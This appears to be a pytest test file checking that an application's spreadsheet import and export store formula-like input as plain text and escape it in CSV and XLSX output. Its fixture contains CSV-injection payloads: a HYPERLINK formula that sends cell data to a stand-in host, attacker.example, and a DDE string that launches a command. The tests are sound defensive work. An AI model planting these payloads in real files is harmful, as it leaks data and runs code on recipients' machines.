"""Cells are never calculated: formulas and texts that look like formulas are stored as the
plain text that was typed, and exported so that no spreadsheet runs them."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from clearinghouse.core.testing import World
from clearinghouse.exchange import layout
from clearinghouse.needs.models import Need
from clearinghouse.needs.offline.export import export_needs
from clearinghouse.needs.offline.filling import FRENCH_NEED, fill_workbook
from clearinghouse.needs.offline.importer import import_submissions, import_workbook
from clearinghouse.needs.offline.template import NEEDS_SHEET, build_workbook
from clearinghouse.vocabularies.services import data_files, load_vocabularies

HYPERLINK = '=HYPERLINK("http://attacker.example/steal?d="&A1,"Cliquez ici")'
INJECTED = FRENCH_NEED | {
    "title": HYPERLINK,  # openpyxl writes it as a real formula, as Excel would
    "description": "+1 formation pour les agents",
    "gap": "@SUM(A1:A9)",
    "outcome": "-2 espèces envahissantes par an",
    "contact_name": "=cmd|' /C calc'!A0",
}


@pytest.fixture(autouse=True)
def _vocabularies(db: None) -> None:
    load_vocabularies(data_files())


@pytest.fixture
def need(world: World) -> Need:
    result = import_workbook(
        world.authorised_user, world.kenya, fill_workbook(build_workbook("fr"), [INJECTED]), "fr"
    )
    assert result.problems == []
    return Need.objects.get()


def test_formulas_and_formula_like_texts_are_stored_as_plain_text(need: Need) -> None:
    assert need.title == {"fr": HYPERLINK}
    assert need.description == {"fr": "+1 formation pour les agents"}
    assert need.gap == {"fr": "@SUM(A1:A9)"}
    assert need.outcome == {"fr": "-2 espèces envahissantes par an"}
    assert need.contact_name == "=cmd|' /C calc'!A0"


def test_the_csv_export_puts_an_apostrophe_before_them(need: Need) -> None:
    rows = list(
        csv.DictReader(io.StringIO(export_needs(Need.objects.all(), "csv", "fr").decode("utf-8-sig")))
    )
    assert rows[0]["title"] == f"'{HYPERLINK}"
    assert rows[0]["description"] == "'+1 formation pour les agents"
    assert rows[0]["gap"] == "'@SUM(A1:A9)"
    assert rows[0]["outcome"] == "'-2 espèces envahissantes par an"
    assert rows[0]["contact_name"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["start_year"] == "2027"  # numbers are left alone


def test_the_xlsx_export_stores_them_as_quoted_text_never_as_formulas(need: Need) -> None:
    workbook = load_workbook(io.BytesIO(export_needs(Need.objects.all(), "xlsx", "fr")))
    sheet, _cell = next(iter(workbook.defined_names[NEEDS_SHEET].destinations))
    cell = workbook[sheet].cell(layout.FIRST_ROW, 1)
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.quotePrefix


def test_escaped_exports_import_back_to_the_same_text(world: World, need: Need) -> None:
    for fmt, owner in (("csv", world.tanzania), ("json", world.tanzanian_ngo)):
        exported = export_needs(Need.objects.filter(pk=need.pk), fmt, "fr")
        result = import_submissions(world.secretariat, owner, exported, "fr")
        assert result.problems == []
        copy = result.created[0]
        assert isinstance(copy, Need)
        assert (copy.title, copy.description, copy.contact_name) == (
            need.title,
            need.description,
            need.contact_name,
        )


def test_the_json_export_keeps_the_text_as_it_is(need: Need) -> None:
    document = json.loads(export_needs(Need.objects.all(), "json", "fr"))
    assert document["needs"][0]["title"] == {"fr": HYPERLINK}
